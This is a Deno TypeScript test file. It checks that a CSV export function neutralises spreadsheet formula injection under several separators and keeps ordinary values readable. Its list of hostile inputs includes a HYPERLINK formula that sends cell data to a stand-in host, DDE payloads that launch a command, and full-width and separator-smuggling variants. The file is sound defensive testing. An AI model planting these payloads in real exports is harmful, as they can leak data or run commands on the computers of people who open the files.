import assert from "node:assert/strict";
import { csvField } from "./history_csv.ts";

/** A spreadsheet splitting on any of these separators must see no formula. */
const SEPARATORS = [",", ";", "\t", "|"];
/** A cell a spreadsheet runs: a formula character after spaces or quotes. */
const FORMULA = /^[\s"]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

/** What a spreadsheet reads as the cells of this field, for one separator. */
function cellsOf(field: string, separator: string): string[] {
  const unquoted = field.slice(1, -1).replace(/""/g, '"');
  return unquoted.split(separator);
}

Deno.test("no CSV field can start a formula, whatever the separator", () => {
  const hostile = [
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    '"=1"',
    "'=1",
    "a;=1",
    "a,=1",
    "a\t=1",
    "a|=1",
    "a; @SUM(1)",
    "a;+cmd",
    "a,-2+3",
    "\uFF1D1",
    "\uFF20SUM(1)",
    "a;\uFF0B1",
    "=cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"!A0")A0;=2',
  ];
  assert.ok(hostile.length >= 20);
  for (const value of hostile) {
    const field = csvField(value);
    assert.match(field, /^".*"$/s, value);
    for (const separator of SEPARATORS) {
      for (const cell of cellsOf(field, separator)) {
        assert.ok(
          !FORMULA.test(cell),
          `${JSON.stringify(value)} split on ${JSON.stringify(separator)}`,
        );
      }
    }
  }
});

Deno.test("ordinary values stay readable", () => {
  assert.equal(csvField("Anne-Marie O'Neil"), `"Anne-Marie O'Neil"`);
  assert.equal(csvField('say "hi", please'), '"say ""hi"", please"');
  assert.equal(csvField("line\nbreak"), '"line\nbreak"');
  assert.equal(csvField("Follow-up, knee"), '"Follow-up, knee"');
  assert.equal(csvField("=Eve"), `"'=Eve"`);
  assert.equal(csvField("weight; -2 kg"), `"weight; '-2 kg"`);
  assert.equal(csvField(-3.5), "-3.5", "numbers are numbers, not text");
  assert.equal(csvField(12.5), "12.5");
  assert.equal(csvField(null), '""');
});
